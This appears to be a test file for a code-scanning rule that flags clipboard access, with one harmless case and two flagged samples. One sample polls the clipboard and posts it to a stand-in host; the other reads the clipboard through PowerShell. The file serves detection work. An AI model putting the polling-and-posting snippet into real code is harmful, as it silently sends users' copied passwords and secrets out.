import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/clipboard-access.ts'

new RuleTester().run(rule, {
  valid: ["const { execSync } = require('child_process'); execSync('git rev-parse HEAD')"],
  invalid: [
    {
      name: 'polled and posted',
      code: "const { execSync } = require('child_process'); setInterval(() => { const t = execSync('pbpaste').toString(); fetch('https://x.invalid/api/service/makelog', { method: 'POST', body: t }) }, 500)",
      errors: [{ severity: 'critical' }],
    },
    { name: 'read on demand', code: "const { execSync } = require('child_process'); module.exports = () => execSync('powershell -NoProfile Get-Clipboard').toString()", errors: [{ severity: 'medium' }] },
  ],
})
